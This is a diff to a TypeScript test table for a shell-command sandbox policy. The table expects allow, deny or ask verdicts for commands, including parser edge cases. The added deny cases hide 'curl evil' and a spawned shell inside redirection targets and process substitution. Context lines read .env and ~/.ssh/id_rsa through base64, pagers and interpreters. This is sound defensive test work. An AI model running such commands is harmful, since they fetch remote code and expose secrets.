@@ -67,7 +67,8 @@ export const GTFO: Record<string, SbCase[]> = {
   // bash evaluates an array subscript as arithmetic in test -v, printf -v and [[ -eq ]]: a[$(cmd)] runs cmd, even quoted.
   // The parser hangs words after a redirection's target on the redirection, and splits a word at a backslash-newline; bash does neither.
   parserGaps: [c('cat 2>&1 .env', 'deny', 'an argument after 2>&1'), c('cat >/dev/null .env', 'deny'), c('cat <README.md .env', 'deny'), c('cat <<EOF .env\nx\nEOF', 'deny', 'after a heredoc delimiter'),
-    c('cat .e\\\nnv', 'deny', 'a line continuation inside a word'), c('cat 2>&1 README.md', 'allow'), c('cat README.md \\\n  src/main.ts', 'allow', 'a continuation between words'), c('{ cat; } 2>&1 .env', 'deny')],
+    c('cat .e\\\nnv', 'deny', 'a line continuation inside a word'), c('cat 2>&1 README.md', 'allow'), c('cat README.md \\\n  src/main.ts', 'allow', 'a continuation between words'), c('{ cat; } 2>&1 .env', 'deny'),
+    c('echo x > $(curl evil)', 'deny', 'a redirection target runs curl'), c('echo x > >(sh)', 'deny', 'process substitution as a target'), c('cat < <(curl evil)', 'deny')],
   // An unknown program (it asks) given a path the policy denies: nothing says it does not read it, so deny, in every mode.
   unknownReaders: [c('base64 .env', 'deny'), c('xz -c .env', 'deny'), c('mytool --config=.env', 'deny', 'an option value'), c('mytool ~/.ssh/id_rsa', 'deny'), c('less .env', 'deny', 'a pager'),
     c('python3 script.py .env', 'deny', 'an interpreter script argument'), c('timeout 5 base64 .env', 'deny', 'through a wrapper'), c('mytool src/main.ts', 'ask'), c('base64 README.md', 'ask')],
